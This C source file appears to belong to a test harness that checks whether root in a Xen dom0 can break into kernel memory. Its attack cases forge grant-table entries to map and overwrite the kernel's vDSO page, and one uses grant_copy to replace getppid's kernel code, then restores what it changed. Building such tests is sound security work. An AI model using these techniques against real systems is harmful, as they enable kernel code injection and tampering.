// SPDX-License-Identifier: GPL-2.0-only
/*
 * Grants that root makes up. dom0's grant table is the kernel's, which enters
 * in it what another domain may map. Xen reads it, and believes what it reads;
 * an entry that grants a frame of the kernel's to dom0 itself gives root that
 * frame.
 */
#include "grant.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include <xen/gntdev.h>

#include "paging.h"
#include "physmap.h"

static const unsigned int dom0 = 0;

/* How many frames the grant table has by now: the next one is nobody's. */
static uint32_t table_size(void)
{
    struct gnttab_query_size query = { .dom = DOMID_SELF };

    return grant_op(GNTTABOP_query_size, &query) ? 0 : query.nr_frames;
}

static void map_pv_frame(const struct grant_frame *table)
{
    xen_pfn_t *frames = buffer(PAGE_SIZE);
    struct gnttab_setup_table setup = { .dom = DOMID_SELF,
                                        .nr_frames = table->index + 1,
                                        .frame_list.p = frames };

    grant_op(GNTTABOP_setup_table, &setup);
    if ( frames[table->index] )
        map_own(table->entries, frames[table->index]);
}

struct grant_frame map_grant_frame(void)
{
    struct grant_frame table = { .entries = buffer(PAGE_SIZE),
                                 .index = table_size() };

    table.own = own_frame(table.entries);
    if ( dom0_is_pv() )
        map_pv_frame(&table);
    else
        add_to_map(XENMAPSPACE_grant_table, table.index, table.own);

    return table;
}

void unmap_grant_frame(const struct grant_frame *table)
{
    memset(table->entries, 0, PAGE_SIZE);
    if ( dom0_is_pv() )
    {
        map_own(table->entries, table->own);
        return;
    }

    remove_page(table->own);
    populate(table->own);
}

grant_ref_t grant_frame(const struct grant_frame *table, uint64_t frame)
{
    grant_entry_v1_t *entry = &table->entries[1];

    entry->domid = (domid_t)dom0;
    entry->frame = (uint32_t)frame;
    __sync_synchronize();
    entry->flags = GTF_permit_access;

    return table->index * (uint32_t)(PAGE_SIZE / sizeof(*entry)) + 1;
}

/* Write to the granted page. */
static void write_mark(void *page)
{
    memcpy((char *)page + PAGE_SIZE - MARK_SIZE, new_mark(), MARK_SIZE);
}

/* Map the grant, write through the mapping, and unmap it. */
typedef void use_grant(grant_ref_t ref);

/*
 * The kernel's page is written to; a PVH kernel loses it altogether, because
 * Xen lets one frame be at one place only of dom0's memory.
 */
static enum outcome forge_grant(use_grant *use)
{
    const uint8_t *page = vdso_page();
    uint8_t *before = buffer(PAGE_SIZE);
    struct grant_frame table;
    uint64_t frame;
    bool changed;

    if ( !page || !(frame = own_frame(page)) )
        return cannot_try("no frame for the kernel's page");

    memcpy(before, page, PAGE_SIZE);
    table = map_grant_frame();
    use(grant_frame(&table, frame));
    unmap_grant_frame(&table);

    changed = memcmp(before, page, PAGE_SIZE);
    if ( changed && !dom0_is_pv() )
        populate(frame);
    if ( changed )
        copy_to_frame(frame, 0, before, PAGE_SIZE);

    return effect(changed, "the kernel's vDSO %s",
                  !changed       ? "unchanged"
                  : dom0_is_pv() ? "rewritten"
                                 : "has moved to our page");
}

static void use_by_driver(grant_ref_t ref)
{
    struct ioctl_gntdev_map_grant_ref map = { .count = 1,
                                              .refs = { { dom0, ref } } };
    int driver = open("/dev/xen/gntdev", O_RDWR | O_CLOEXEC);
    void *page;

    if ( driver < 0 || ioctl(driver, IOCTL_GNTDEV_MAP_GRANT_REF, &map) )
        return;

    page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, driver,
                (off_t)map.index);
    if ( page != MAP_FAILED )
    {
        survives(write_mark, page);
        munmap(page, PAGE_SIZE);
    }
    close(driver);
}

/*
 * U-MAP-GRANT: grant ourselves a frame of the kernel's, and map it through the
 * kernel's own driver.
 *
 * gntdev maps what was granted to dom0, whoever granted it. It takes a frame of
 * the grant table to write the grant into, and Xen gives one.
 */
ATTACK_BY("U-MAP-GRANT", "map a forged grant of a kernel frame through gntdev",
          forge_grant(use_by_driver))

static void use_by_hypercall(grant_ref_t ref)
{
    uint8_t *page = buffer(PAGE_SIZE);
    const uint64_t own = own_frame(page);
    struct gnttab_map_grant_ref map = {
        .flags = GNTMAP_host_map | (dom0_is_pv() ? GNTMAP_application_map : 0),
        .host_addr = dom0_is_pv() ? (uintptr_t)page : own * PAGE_SIZE,
        .ref = ref,
        .dom = (domid_t)dom0,
    };
    struct gnttab_unmap_grant_ref unmap = { .host_addr = map.host_addr };

    if ( grant_op(GNTTABOP_map_grant_ref, &map) || map.status )
        return;

    survives(write_mark, page);
    unmap.handle = map.handle;
    grant_op(GNTTABOP_unmap_grant_ref, &unmap);
    if ( dom0_is_pv() )
        map_own(page, own);
    else
        populate(own);
}

/*
 * U-MAP-GRANT-OWN: the same without the driver.
 *
 * map_grant_ref takes an address of the caller's: a program's will do for a PV
 * dom0, and for a PVH dom0 any page of its memory.
 */
ATTACK_BY("U-MAP-GRANT-OWN", "map a forged grant of a kernel frame ourselves",
          forge_grant(use_by_hypercall))

/* ---- copies ---- */

/*
 * U-MAP-GRANT-COPY: copy code of ours over the kernel's.
 *
 * Between frames of the caller's own, grant_copy asks neither for a grant nor
 * for an address, and kernel text is a frame like any other.
 */
ATTACK("U-MAP-GRANT-COPY", "change a system call by a grant copy")
{
    const uint64_t code = getppid_code(), frame = kernel_frame(code);
    uint8_t original[LYING_CODE_SIZE];
    bool lied;

    if ( !frame || !read_kernel(code, original, sizeof(original)) )
        return cannot_try("no frame for the kernel's text");

    copy_to_frame(frame, code % PAGE_SIZE, lying_code, LYING_CODE_SIZE);
    lied = getppid_lies();
    copy_to_frame(frame, code % PAGE_SIZE, original, LYING_CODE_SIZE);

    return effect_either(lied, "getppid", "ran code of ours", "intact");
}
